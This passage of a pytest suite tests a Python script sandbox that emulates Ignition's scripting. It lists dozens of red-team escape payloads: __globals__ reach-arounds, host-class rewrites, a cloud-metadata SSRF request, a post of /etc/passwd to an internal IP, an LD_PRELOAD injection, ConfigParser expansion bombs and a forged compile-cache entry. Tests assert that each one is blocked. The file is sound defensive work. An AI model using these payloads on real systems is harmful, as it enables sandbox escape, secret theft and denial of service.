    "user_internals": "system.user.getNewUser('', 'x')._props",
    "user_store_via_class": "type(system.user.getNewUser('', 'x')).get = lambda s, p: 1",
    "alarm_result_internals": "system.alarm.queryStatus()._journal",
    "alarm_result_class_write": "type(system.alarm.queryStatus()).getDataset = lambda s: 1",
    "alarm_engine_reach": "system.alarm._engine()",
    "math_function_globals": "system.math.mean.__globals__['builtins']",
    # issue #19: the network and what system.net hands out
    "http_unlisted_host": "system.net.httpGet('http://169.254.169.254/latest/meta-data/')",
    "http_file_scheme": "system.net.httpGet('file://{m}')",
    "http_post_unlisted": "system.net.httpPost('http://10.0.0.1/', {{'a': 1}})",
    "httpclient_httpx_client": "getattr(system.net.httpClient(), '_client').get('http://10.0.0.1/')",
    "httpclient_policy_write": "c = system.net.httpClient()\nc._policy = None",
    "httpclient_file_outside": "system.net.httpClient().post('http://10.0.0.1/', file='/etc/passwd')",
    "httpclient_class_write": "c = system.net.httpClient()\ntype(c).get = lambda *a: None",
    "smtp_unlisted_server": "system.net.sendEmail('smtp.example.com:587', 'a@b.c', 's', 'b', 0, ['x@y.z'])",
    "smtp_profile_unknown": "system.net.sendEmail(smtpProfile='Default', fromAddr='a@b.c', to=['x@y.z'])",
    # red team, round 3: typing's aliases relay every plain attribute to their origin class
    "typing_type_mro_real_type": "import abc, typing\nT = typing.Type.mro(abc.ABCMeta)[2]\n"
                                 "T('C', (object,), {{'__shim' + '_script__': True}})",
    "typing_subscripted_type_mro": "import abc, typing\ntyping.Type[int].mro(abc.ABCMeta)",
    "getattr_typing_type_mro": "import abc, typing\ngetattr(typing.Type, 'mro')(abc.ABCMeta)",
    "typing_mapping_register": "import typing\nclass C(object): pass\ntyping.Mapping.register(C)",
    "typing_callable_register": "import typing\ntyping.Callable.register(int)",
    "abc_register_with_host_abc": "import abc, typing\nclass C(object): pass\nabc.ABCMeta.register(typing.Iterable, C)",
    "abc_register_host_abc_via_mro": "import contextlib\n@contextlib.contextmanager\ndef g():\n    yield 1\n"
                                     "class S(type(g())): pass\n"
                                     "[k for k in S.__mro__ if k.__name__ == 'AbstractContextManager'][0].register(int)",
    "abc_metaclass_subclass_new": "import abc\nclass M(abc.ABCMeta):\n    def __new__(m, n, b, d):\n"
                                  "        return super(M, m).__new__(m, n, b, d)\nM('Z', (object,), {{}})",
    "abc_metaclass_subclass_call": "import abc\nclass M(abc.ABCMeta): pass\nM('Z', (object,), {{}})",
    "contextlib_nested_host_generator": "import contextlib, io\ngetattr(contextlib.nested(io.BytesIO()).gen, 'gi_frame')",
    # issue #18: ConfigParser, shlex, warnings, numbers, getopt, future_builtins
    "configparser_class_write": "import ConfigParser\nConfigParser.RawConfigParser.get = len",
    "configparser_method_globals": "import ConfigParser\nConfigParser.RawConfigParser.read.__globals__['open_']",
    "configparser_getattr_func_globals": "import ConfigParser\n"
                                         "getattr(ConfigParser.ConfigParser.get, 'func_' + 'globals')['re']",
    "configparser_private_state": "import ConfigParser\nc = ConfigParser.RawConfigParser()\n"
                                  "c._sections.__class__.__init__.__globals__",
    "configparser_subclass_super_globals": "import ConfigParser\nclass C(ConfigParser.RawConfigParser):\n"
                                           "    def go(self):\n        return super(C, self).read.__func__.__globals__\nC().go()",
    "configparser_subclass_open": "import ConfigParser\nclass C(ConfigParser.RawConfigParser): pass\n"
                                  "C().read(['{m}'])\nopen('/{m}x', 'w')",
    "configparser_exception_mro_globals": "import ConfigParser\n"
                                          "ConfigParser.NoSectionError.__mro__[1].__init__.__globals__",
    "configparser_interpolation_bomb": "import ConfigParser, StringIO\nc = ConfigParser.ConfigParser()\n"
                                       "c.readfp(StringIO.StringIO('[s]\\na0 = xxxxxxxxxx\\na1 = %(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s\\na2 = %(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s\\na3 = %(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s\\na4 = %(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s\\na5 = %(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s\\na6 = %(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s\\na7 = %(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s\\na8 = %(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s\\na9 = %(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s'))\nc.get('s', 'a9')",
    "safeconfigparser_interpolation_bomb": "import ConfigParser, StringIO\nc = ConfigParser.SafeConfigParser()\n"
                                           "c.readfp(StringIO.StringIO('[s]\\na0 = xxxxxxxxxx\\na1 = %(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s%(a0)s\\na2 = %(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s%(a1)s\\na3 = %(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s%(a2)s\\na4 = %(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s%(a3)s\\na5 = %(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s%(a4)s\\na6 = %(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s%(a5)s\\na7 = %(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s%(a6)s\\na8 = %(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s%(a7)s\\na9 = %(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s%(a8)s'))\nc.get('s', 'a9')",
    "shlex_split_reads_stdin": "import shlex\nshlex.split(None)",
    "shlex_class_source_file": "import shlex\nshlex.shlex('source {m}')",
    "shlex_function_globals": "import shlex\nshlex.split.__globals__['_shlex']",
    "warnings_showwarning_replaced": "import warnings\nwarnings.showwarning = lambda *a: open('{m}', 'w')",
    "warnings_function_globals": "import warnings\nwarnings.warn.__globals__['sys'].modules",
    "warnings_record_class_globals": "import warnings\nwith warnings.catch_warnings(record=True) as w:\n"
                                     "    warnings.warn('x')\ntype(w[0]).__init__.__globals__",
    "warnings_filters_list": "import warnings\nwarnings.filters.append(('error', None, Warning, None, 0))",
    "warnings_catch_class_write": "import warnings\nwarnings.catch_warnings.__exit__ = len",
    "numbers_register_builtin": "import numbers\nnumbers.Number.register(str)",
    "numbers_abc_internals": "import numbers\nnumbers.Integral._abc_impl",
    "getopt_module_os": "import getopt\ngetopt.os.environ",
    "codecs_open_absolute": "import codecs\ncodecs.open('{m}', 'w', 'utf-8').write(u'x')",
    "codecs_open_file_inner": "import codecs\ncodecs.open('x.txt', 'w', 'utf-8')._file",
    "codecs_coder_function": "import codecs\ncodecs.getencoder('utf-8')._function.__globals__",
    "codecs_register_search": "import codecs\ncodecs.register(lambda name: None)",
    "codecs_lookup_class_globals": "import codecs\ntype(codecs.lookup('utf-8')).name.fget.__globals__",
    "codecs_streamreader": "import codecs\ncodecs.getreader('utf-8')(open('{m}', 'w'))",
    "os_environ_host_secret": "import os\nif os.environ.get('HOME') is None and os.getenv('PATH') is None:\n"
                              "    raise KeyError('the host environment is not there')",
    "os_environ_class_globals": "import os\ntype(os.environ).get.__globals__['_os']",
    "os_environ_class_write": "import os\ntype(os.environ).get = lambda self, k, d=None: open('{m}', 'w')",
    "os_putenv": "import os\nos.putenv('LD_PRELOAD', '{m}')",
    "future_builtins_map_getattr": "import future_builtins\nlist(future_builtins.map(getattr, [len], ['__self__']))[0].open('{m}', 'w')",
}


@pytest.mark.parametrize("name", sorted(ATTEMPTS))
def test_escape_is_blocked(name, tmp_path):
    marker = tmp_path / "ESCAPED"
    source = ATTEMPTS[name].format(m=marker)
    open_before, len_before = builtins.open, builtins.len
    with pytest.raises(Exception) as caught:
        compiled = compile_script(source, f"{name}.py")
        exec(compiled.code, new_globals("__main__"))
    assert not marker.exists(), f"{name} reached the host"
    assert builtins.open is open_before and builtins.len is len_before
    # refused with a message that says what, never a crash of shim itself
    assert str(caught.value) or caught.type.__name__


def test_shared_host_classes_are_unchanged_after_the_attempts():
    import json
    import math
    import random
    import string

    from runtime.emulated.ignition.dataset import BasicDataset
    from runtime.emulated.java.util import HashMap

    for cls, name in ((json.JSONDecoder, "decode"), (json.JSONEncoder, "encode"), (random.Random, "random"),
                      (string.Template, "safe_substitute"), (HashMap, "put"), (BasicDataset, "getRowCount")):
        assert name in vars(cls) or any(name in vars(base) for base in cls.__mro__)
        assert "<lambda>" not in repr(getattr(cls, name))
    assert math.floor(2.5) == 2


def test_scripts_still_write_their_own_objects(run):
    out = run("class C(object):\n    n = 0\n    def __init__(self):\n        self.x = 1\n        self._p = 2\n"
              "c = C()\nc.x += 1\nC.n = 5\nsetattr(c, 'y', 3)\ndel c.y\ndef f(): pass\nf.tag = 'ok'\n"
              "print c.x, c._p, C.n, f.tag, hasattr(c, 'y')")
    assert out == "2 2 5 ok False\n"


def test_there_are_enough_attempts(report_figure):
    assert len(ATTEMPTS) >= 80
    report_figure(f"sandbox: {len(ATTEMPTS)} escape attempts, each blocked with no effect on the host "
                  "(one test each: test_escape_is_blocked)")


def test_blocked_operations_name_what_was_refused(run):
    assert "import of 'multiprocessing' is not allowed" in run("import multiprocessing")
    assert run("import os\nos.system('ls')") == \
        "AttributeRefused: os.system is not available in the sandbox\n"
    assert run("import subprocess") == ("ImportRefused: module 'subprocess' is not available in shim's "
                                        "sandbox: it reaches the host (processes and threads; use "
                                        "system.util.invokeAsynchronous)\n")
    assert run("open('/etc/passwd')") == \
        "HostRefused: open(): no files folder: the script is not running in a gateway\n"
    assert "__globals__" in run("def f(): pass\nprint f.__globals__")
    assert "private attribute '_text'" in run("x = '{}'.format\nprint getattr(x, '_text')")


def test_missing_attribute_raises_attribute_error_not_none(run):
    # RestrictedPython's stock safer_getattr returns None; Ignition raises AttributeError
    out = run("import math\nprint math.nonexistent")
    assert out.startswith("AttributeError")
    out = run("class A: pass\nprint A()._missing")
    assert out.startswith("AttributeError")


def test_host_class_init_cannot_rewrite_shared_objects(run):
    out = run("ds = system.dataset.toDataSet(['a'], [[1]])\n"
              "type(ds).__init__(ds, ['evil'], [int], [['pwn']])")
    assert out.startswith("AttributeRefused: setting attributes of BasicDataset objects is not allowed")
    assert run("class E(Exception):\n    def __init__(self, m):\n        Exception.__init__(self, m)\n"
               "print E('x').args") == "('x',)\n"


def test_one_script_cannot_change_what_the_next_one_draws_or_computes(run):
    """random.seed, the decimal context and Java's Math.random are not shared between script
    runs (review finding)."""
    run("import random\nrandom.seed(42)\nimport decimal\ndecimal.getcontext().clear_traps()")
    out = run("import random\nprint random.random() == 0.6394267984578837\n"
              "import decimal\ntry:\n    decimal.Decimal(1) / decimal.Decimal(0)\nexcept Exception, e:\n"
              "    print type(e).__name__\nprint round(1e30, 2)")
    assert out == "False\nDivisionByZero\n1e+30\n"
    assert run("import random\nrandom.seed(3)\nx = random.random()\nrandom.seed(3)\nprint x == random.random()") == "True\n"


def test_a_planted_compile_cache_entry_is_refused(tmp_path, monkeypatch):
    """Sandbox round 2: the disk cache of compiled scripts is signed with a per-installation key
    kept outside the cache folder; an entry written there by anyone else (here: unsandboxed code
    that would create a marker file) is ignored and compiled over, never run."""
    from runtime.scripts.sandbox import compiler

    monkeypatch.setenv("SHIM_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("SHIM_KEY_FILE", str(tmp_path / "key" / "cache.key"))
    monkeypatch.setattr(compiler, "_KEY", None)
    monkeypatch.setattr(compiler, "_memory", {})
    marker = tmp_path / "ESCAPED"
    source = "print 'honest'\n"
    key = compiler._key(source, "planted.py", None, ("payload",))
    target = compiler.cache_dir() / key[:2] / key
    target.parent.mkdir(parents=True)
    evil = compile(f"open({str(marker)!r}, 'w').close()", "planted.py", "exec")
    import marshal
    target.write_bytes(b"\0" * 32 + marshal.dumps(evil))   # no valid signature
    refused = compiler.STATS["refused"]
    compiled = compile_script(source, "planted.py")
    exec(compiled.code, new_globals("__main__"))
    assert not marker.exists()
    assert compiler.STATS["refused"] == refused + 1
    # the honest entry written in its place is served next time (signed), still not the planted one
    monkeypatch.setattr(compiler, "_memory", {})
    exec(compile_script(source, "planted.py").code, new_globals("__main__"))
    assert not marker.exists() and compiler.STATS["refused"] == refused + 1


def test_uuid1_carries_no_host_mac_address():
    """Sandbox round 2 (hygiene): ``uuid.uuid1()`` in a script uses a random node, never the
    host's MAC address (Python's default node)."""
    import uuid

    from runtime.tools.testing import run_legacy_script

    node = int(run_legacy_script("import uuid\nprint uuid.uuid1().node\n"))
    assert node != uuid.getnode() and node & (1 << 40)


def test_httpclient_class_cannot_be_built_with_the_scripts_own_policy():
    """``type(system.net.httpClient())`` is the host class; built with a script object as its
    allow-list policy it reached any host (a local web server in the red-team run)."""
    source = ("class P(object):\n    def check(self, f, url):\n        return url\n"
              "    def check_host(self, *a):\n        pass\n"
              "try:\n    type(system.net.httpClient())(P(), None, timeout=1000, verify=False, auth=None, "
              "redirect_policy='NEVER', cookie_policy='ACCEPT_NONE', version='HTTP_1_1', limit=None)\n"
              "    result = 'BUILT'\nexcept TypeError, e:\n    result = str(e)\n")
    namespace = new_globals("__main__")
    exec(compile_script(source, "own_policy.py").code, namespace)
    assert namespace["result"] == "JythonHttpClient is shim's own class: scripts cannot construct it"
